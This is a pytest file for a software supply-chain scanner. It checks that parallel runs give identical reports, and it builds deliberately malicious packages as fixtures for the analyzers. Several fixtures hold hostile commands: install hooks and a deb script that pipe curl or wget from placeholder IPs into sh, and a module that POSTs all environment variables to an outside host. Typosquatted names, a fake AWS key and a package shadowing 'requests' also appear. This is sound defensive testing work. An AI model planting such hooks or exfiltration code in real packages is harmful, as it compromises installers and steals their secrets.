"""``--jobs N`` gives the same report as ``--jobs 1``, for every registered plug-in.

The artifacts are built to make every analyzer and cataloger report something, including what
crosses files (install hooks resolved in ``finish``, names declared in one file and checked
against another, text captured for a baseline diff): state an analyzer kept between files would
be lost in worker processes and show here as a difference.
"""

from __future__ import annotations

import json
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest

from builders import deb_bytes, gzip_bytes, tar_bytes, write, zip_bytes
from finalexam.config import Config
from finalexam.diffing.api import diff
from finalexam.diffing.baseline import exam_with_baseline
from finalexam.diffing.render import DiffRenderOptions, render_json
from finalexam.exam import run_exam
from finalexam.model import Severity
from finalexam.registry import registered
from finalexam.report.base import RenderOptions
from finalexam.report.json import JsonReporter

STAMP = "2024-01-01T00:00:00Z"
SETUP_PY = """\
from setuptools import setup
from setuptools.command.install import install
from evilpkg.helpers import post_install


class Install(install):
    def run(self):
        install.run(self)
        post_install()


setup(name="evil-pkg", version="1.0", cmdclass={"install": Install})
"""
HELPERS = """\
import os


def post_install():
    os.system("curl -s http://203.0.113.9/stage2 | sh")
"""
INSTALL_JS = """\
const { execSync } = require("child_process");
execSync("curl -s http://198.51.100.7/p.sh | sh");
"""
C_SOURCE = '#include <stdio.h>\nint main(void) { puts("hello"); return 0; }\n'
AWS_KEYS = 'aws_access_key_id = "AKIAQYLPMN5HHHFPZAM2"\n'


def _sdist() -> bytes:
    root = "evil-pkg-1.0"
    return gzip_bytes(
        tar_bytes(
            {
                f"{root}/PKG-INFO": "Metadata-Version: 2.1\nName: evil-pkg\nVersion: 1.0\n\n",
                f"{root}/setup.py": SETUP_PY,
                f"{root}/evilpkg/__init__.py": "",
                f"{root}/evilpkg/helpers.py": HELPERS,
                f"{root}/evil_pkg.egg-info/requires.txt": "reqeusts\n",
            }
        )
    )


def _wheel() -> bytes:
    info = "shadow-1.0.dist-info"
    return zip_bytes(
        {
            f"{info}/METADATA": "Metadata-Version: 2.1\nName: shadow\nVersion: 1.0\n\n",
            f"{info}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
            f"{info}/RECORD": "",
            "requests/__init__.py": "from shadow import *\n",
            "shadow/__init__.py": "import os\nTOKEN = os.environ.get('HOME')\n",
        }
    )


def _npm() -> bytes:
    manifest = {
        "name": "lib",
        "version": "1.0.0",
        "scripts": {"postinstall": "node install.js"},
        "dependencies": {"lodash": "4.17.20", "expresss": "^4.0.0"},
    }
    return gzip_bytes(
        tar_bytes(
            {
                "package/package.json": json.dumps(manifest, indent=2),
                "package/install.js": INSTALL_JS,
                "package/config.ini": AWS_KEYS,
            }
        )
    )


def _jar() -> bytes:
    pom = "META-INF/maven/org.apache.logging.log4j/log4j-core/pom.properties"
    return zip_bytes(
        {
            "META-INF/MANIFEST.MF": "Manifest-Version: 1.0\nImplementation-Version: 2.14.1\n",
            pom: "groupId=org.apache.logging.log4j\nartifactId=log4j-core\nversion=2.14.1\n",
            "org/apache/logging/log4j/core/Logger.class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34"
            + bytes(56),
        }
    )


def _deb() -> bytes:
    control = "Package: tool\nVersion: 1.2-3\nArchitecture: amd64\nMaintainer: x <x@example.org>\n"
    script = "#!/bin/sh\nwget -q -O- http://192.0.2.44/i | sh\n"
    return deb_bytes(control, {"usr/bin/tool-update": script})


def _binary(directory: Path) -> bytes:
    compiler = shutil.which("gcc")
    if compiler is None:
        pytest.skip("gcc is not installed (see .ci/system-packages)")
    source = directory / "hello.c"
    source.write_text(C_SOURCE)
    out = directory / "hello"
    subprocess.run([compiler, "-O1", "-o", str(out), str(source)], check=True)
    return out.read_bytes()


@pytest.fixture(scope="module")
def release(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One bundle holding an sdist with install hooks, a wheel, an npm tarball, a jar, a deb
    and an ELF binary."""
    directory = tmp_path_factory.mktemp("parallel")
    members = {
        "evil-pkg-1.0.tar.gz": _sdist(),
        "shadow-1.0-py3-none-any.whl": _wheel(),
        "lib-1.0.0.tgz": _npm(),
        "log4j-core-2.14.1.jar": _jar(),
        "tool_1.2-3_amd64.deb": _deb(),
        "bin/hello": _binary(directory),
    }
    return write(directory / "release.zip", zip_bytes(members))


def _config(jobs: int, **changes: object) -> Config:
    return replace(Config(), jobs=jobs, timestamp=STAMP, **changes)  # type: ignore[arg-type]


def _render(target: Path, config: Config) -> bytes:
    report = exam_with_baseline(target, config)
    return JsonReporter().render(report, RenderOptions(timestamp=STAMP))


def test_every_registered_plugin_runs_and_reports(release: Path) -> None:
    report = run_exam(release, _config(1))
    statuses = {(p.kind, p.name): (p.status, p.version) for p in report.plugins}
    opened = {"zip", "tar", "ar"}  # the unpackers of the zip, the tarballs and the .deb
    declared = {
        (p.kind, p.plugin.name): ("ok", p.plugin.version)  # type: ignore[attr-defined]
        for p in registered()
        if p.kind in ("cataloger", "analyzer")
        or (p.kind == "unpacker" and getattr(p.plugin, "name", "") in opened)
    }
    assert statuses == declared  # every registered plug-in ran, at its declared version
    found = {f.found_by for f in report.findings}
    # what crosses files: the install command's helper and the shadowing import package
    rules = {f.rule_id for f in report.findings}
    assert {"shadows-popular-package", "setup-command-override"} <= rules
    assert any(f.location and f.location.path.endswith("helpers.py") for f in report.findings)
    assert {"behavior", "secrets", "typosquat"} <= found
    assert report.indicators
    assert any(str(b["location"]).endswith("bin/hello") for b in report.binaries)
    assert any(c.name.endswith(":log4j-core") for c in report.components)
    assert any(c.name == "tool" and c.ecosystem == "Debian" for c in report.components)
    assert any(f.severity.rank >= Severity.HIGH.rank for f in report.findings)


def test_jobs_do_not_change_the_report(release: Path) -> None:
    serial = _render(release, _config(1))
    assert serial == _render(release, _config(2))


def _npm_release(directory: Path, version: str, files: dict[str, str]) -> Path:
    manifest = json.dumps({"name": "lib", "version": version}, indent=2)
    members = {"package/package.json": manifest, **{f"package/{k}": v for k, v in files.items()}}
    return write(directory / f"lib-{version}.tgz", gzip_bytes(tar_bytes(members)))


ADDED_CODE = """\
const https = require("https");
module.exports = function send(data) {
  const request = https.request({ host: "collect.example.net", method: "POST" });
  request.write(JSON.stringify(process.env));
  request.end();
};
"""


def test_jobs_do_not_change_a_baseline_diff(tmp_path: Path) -> None:
    old = _npm_release(tmp_path, "1.0.0", {"index.js": "module.exports = 1;\n"})
    new = _npm_release(
        tmp_path,
        "1.1.0",
        {"index.js": "module.exports = require('./send');\n", "send.js": ADDED_CODE},
    )
    options = DiffRenderOptions(timestamp=STAMP)
    rendered = [render_json(diff(old, new, _config(jobs)), options) for jobs in (1, 2)]
    assert rendered[0] == rendered[1]
    kinds = {change["kind"] for change in json.loads(rendered[0])["changes"]}
    assert "code-added" in kinds or "file-added" in kinds
    scans = [_render(new, _config(jobs, baseline=str(old))) for jobs in (1, 2)]
    assert scans[0] == scans[1]
    assert b"baseline_diff" in scans[0]


def test_a_copy_under_tests_does_not_lend_its_verdict_to_the_library(tmp_path: Path) -> None:
    """The same bytes under tests/ (test context: reported, not blocking) and in the package
    (shipped): each location is judged on its own, whatever comes first in the walk."""
    payload = "import os\nos.system('curl -s http://203.0.113.9/x | sh')\n"
    members = {"pkg-1.0/tests/a_boot.py": payload, "pkg-1.0/pkg/__init__.py": payload}
    target = write(tmp_path / "pkg-1.0.tar", tar_bytes(members))
    for jobs in (1, 2):
        report = run_exam(target, replace(Config(), jobs=jobs))
        contexts = {}
        for finding in report.findings:
            if finding.location is not None and finding.kind.value in ("behavior", "malicious"):
                assert finding.severity.rank >= Severity.HIGH.rank
                contexts[finding.location.path] = finding.context
        assert contexts == {"pkg-1.0/pkg/__init__.py": "shipped", "pkg-1.0/tests/a_boot.py": "test"}
        blocked = " ".join(v.message for v in report.verdict.violations)
        assert "pkg/__init__.py" in blocked and "a_boot.py" not in blocked
